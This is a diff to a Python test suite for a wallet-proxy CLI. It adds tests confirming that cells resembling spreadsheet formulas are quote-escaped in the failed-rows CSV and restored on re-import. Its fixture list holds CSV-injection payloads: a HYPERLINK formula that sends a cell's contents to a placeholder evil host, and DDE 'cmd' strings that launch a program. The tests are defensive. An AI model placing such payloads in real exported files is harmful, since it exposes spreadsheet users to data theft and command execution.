@@ -24,6 +24,7 @@ from click.testing import CliRunner
 
 from tests.helpers import API_KEY, wait_until
 from wallet_proxy import create_app
+from wallet_proxy.bulk.formulas import inert, restored
 from wallet_proxy.bulk.runner import Progress, RateLimiter
 from wallet_proxy.cli import main
 from wallet_proxy.sandbox import DEMO_CORE_API_KEY, DEMO_CORE_API_SECRET
@@ -423,6 +424,63 @@ def test_failures_go_to_failed_csv_and_are_retried_on_the_next_run(tmp_path, cor
     again = cli(["tags", "import", path, "--tag", "t", "--ttl", "60"], core_env)
     assert "done 0, skipped 2, failed 1" in again.stderr
     assert [call["user_id"] for call in sandbox.stats()["core_calls"]].count("nobody-2") == 2
+
+
+# No `/` in them: the sandbox's Core route takes the id as one path segment.
+FORMULA_IDS = [
+    '=HYPERLINK("http:evil.example?"&A1,"open")',
+    "+cmd|' -C calc'!A0",
+    "@SUM(1+1)*cmd|' -C calc'!A0",
+    "-2+3+cmd|' -C calc'!A0",
+    "'=really a quote, then =",
+    "'a quote",
+    "''two quotes",
+]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_failed_csv_runs_no_formula_and_imports_again_as_it_was(tmp_path, core_env, sandbox):
+    """Issue 19 item 6: ids like =HYPERLINK(...) were written into FILE.failed.csv as they
+    were, for a spreadsheet to run. Each cell that starts like a formula, or with the quote
+    that marks one, is written after a quote; importing the file takes exactly that off."""
+    path = write_csv(tmp_path / "s.csv", [[user_id, "x"] for user_id in FORMULA_IDS])
+    first = cli(["tags", "import", path, "--tag=-neg", "--ttl", "60"], core_env)
+    assert first.exit_code == 1  # SessionM knows none of them: every row failed
+    sent = [(call["user_id"], call["tags"]) for call in sandbox.stats()["core_calls"]]
+    assert sorted(sent) == sorted((user_id, ["-neg"]) for user_id in FORMULA_IDS)
+
+    failed_file = Path(f"{path}.failed.csv")
+    with failed_file.open(newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    assert {f"'{user_id}" for user_id in FORMULA_IDS} <= set(cells)
+    assert "'-neg" in cells
+
+    copy = write_csv(tmp_path / "copy.csv", [])
+    copy.write_bytes(failed_file.read_bytes())  # a copy, as the docs suggest
+    again = cli(["tags", "import", copy], core_env)  # tags and ttl from its own columns
+    assert again.exit_code == 1
+    sent_again = [(c["user_id"], c["tags"], c["ttl"]) for c in sandbox.stats()["core_calls"]]
+    assert sorted(sent_again[len(sent) :]) == sorted(
+        (user_id, ["-neg"], 60) for user_id in FORMULA_IDS
+    )
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("'", "''"),
+        ("a=1", "a=1"),
+        ("", ""),
+        (" =1", " =1"),
+    ],
+)
+def test_a_cell_is_marked_exactly_when_a_spreadsheet_would_run_it(cell, written):
+    assert inert([cell]) == [written]
+    assert restored(inert([cell])) == [cell]
 
 
 def test_429_and_503_are_retried_even_for_counters_honouring_retry_after(
